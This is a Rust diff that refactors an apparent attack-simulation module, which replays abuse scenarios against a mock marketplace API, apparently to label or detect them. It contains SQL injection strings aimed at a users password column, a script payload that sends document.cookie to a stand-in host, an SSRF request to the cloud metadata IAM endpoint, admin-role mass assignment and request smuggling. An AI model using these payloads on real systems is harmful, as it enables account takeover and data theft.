@@ -70,8 +70,7 @@ impl Abuse {
             Self::Promotion => &["mass_assignment"],
             Self::Scraping => &["scraping", "object_enumeration"],
             Self::Emptying => &["exfiltration", "scraping"],
-            Self::ManyAtOnce => &["resource_exhaustion"],
-            Self::DeepQuery | Self::ManyAliases => &["resource_exhaustion"],
+            Self::ManyAtOnce | Self::DeepQuery | Self::ManyAliases => &["resource_exhaustion"],
             Self::SkippedPayment => &["flow_violation"],
             Self::SqlError | Self::BlindSql | Self::Traversal | Self::Script => &["injection"],
             Self::ServerRequest => &["server_request_forgery"],
@@ -105,8 +104,15 @@ impl Abuse {
 
     /// Does it, beginning with a second.
     pub(super) fn run(self, market: &mut Market, from: u64) {
-        let customer = self.customer();
-        let (client, head) = (home(customer), token(customer));
+        self.collect(market, from);
+        self.overstep(market, from);
+        self.inject(market, from);
+        self.forge(market, from);
+    }
+
+    /// Takes what belongs to others, or all there is.
+    fn collect(self, market: &mut Market, from: u64) {
+        let (client, head) = (home(self.customer()), token(self.customer()));
         let get = |market: &mut Market, at: u64, path: &str, answer: String| {
             market.stage.call(at, client, &Call::get(path, &head, answer));
         };
@@ -126,15 +132,6 @@ impl Abuse {
                 for (id, at) in (900_000..900_040).zip((from..).step_by(9)) {
                     get(market, at, &format!("/api/partner/orders/{id}"), order(id));
                 }
-            }
-            Self::Refunding => {
-                for at in [from, from + 40, from + 90] {
-                    market.stage.call(at, client, &refund(&head, 50_001));
-                }
-            }
-            Self::Promotion => {
-                let sent = r#"{"name":"Customer","city":"City 1","role":"admin"}"#.to_owned();
-                market.stage.call(from, client, &put("/api/users/me", &head, sent, profile(1)));
             }
             Self::Scraping => {
                 for (page, at) in (0..40).zip((from..).step_by(60)) {
@@ -157,6 +154,23 @@ impl Abuse {
                 let shown: Vec<u64> = (0..900).collect();
                 get(market, from, "/api/products?limit=100000&page=0", list(&shown, product));
             }
+            _ => {}
+        }
+    }
+
+    /// Does what is not for it to do.
+    fn overstep(self, market: &mut Market, from: u64) {
+        let (client, head) = (home(self.customer()), token(self.customer()));
+        match self {
+            Self::Refunding => {
+                for at in [from, from + 40, from + 90] {
+                    market.stage.call(at, client, &refund(&head, 50_001));
+                }
+            }
+            Self::Promotion => {
+                let sent = r#"{"name":"Customer","city":"City 1","role":"admin"}"#.to_owned();
+                market.stage.call(from, client, &put("/api/users/me", &head, sent, profile(1)));
+            }
             Self::DeepQuery => {
                 let query = format!("{{ me {}{} }}", "{ friends ".repeat(20), "}".repeat(20));
                 market.stage.call(from, client, &graph(&head, &query));
@@ -171,9 +185,17 @@ impl Abuse {
             }
             Self::SkippedPayment => {
                 for at in [from, from + 400, from + 800] {
-                    market.buy(customer, at, false);
+                    market.buy(self.customer(), at, false);
                 }
             }
+            _ => {}
+        }
+    }
+
+    /// Sends what is meant to be run or followed.
+    fn inject(self, market: &mut Market, from: u64) {
+        let (client, head) = (home(self.customer()), token(self.customer()));
+        match self {
             Self::SqlError => {
                 let path = "/api/search?q=zz%27%20union%20select%20name,pw%20from%20users--";
                 let answer = r#"{"error":"SQLSTATE[42000]: Syntax error"}"#.to_owned();
@@ -183,7 +205,7 @@ impl Abuse {
             Self::BlindSql => {
                 for (turn, at) in (0..12).zip((from..).step_by(15)) {
                     let path = format!("/api/search?q=1%27%20AND%20SUBSTR(pw,{turn},1)=%27a");
-                    get(market, at, &path, "[]".to_owned());
+                    market.stage.call(at, client, &Call::get(&path, &head, "[]".to_owned()));
                 }
             }
             Self::Traversal => {
@@ -192,13 +214,21 @@ impl Abuse {
             }
             Self::Script => {
                 let sent = r#"{"name":"<script>fetch('//x.test/'+document.cookie)</script>"}"#;
-                let call = put("/api/users/me", &head, sent.to_owned(), profile(customer));
+                let call = put("/api/users/me", &head, sent.to_owned(), profile(self.customer()));
                 market.stage.call(from, client, &call);
             }
             Self::ServerRequest => {
                 let call = import(&head, "http://169.254.169.254/latest/meta-data/iam/");
                 market.stage.call(from, client, &call);
             }
+            _ => {}
+        }
+    }
+
+    /// Sends what nobody would who was asked to.
+    fn forge(self, market: &mut Market, from: u64) {
+        let (client, head) = (home(self.customer()), token(self.customer()));
+        match self {
             Self::Smuggling => {
                 let request = format!(
                     "POST /api/cart/items HTTP/1.1\r\nHost: market.example\r\n{head}\
@@ -220,6 +250,7 @@ impl Abuse {
                     market.stage.call(at, client, &call);
                 }
             }
+            _ => {}
         }
     }
 }
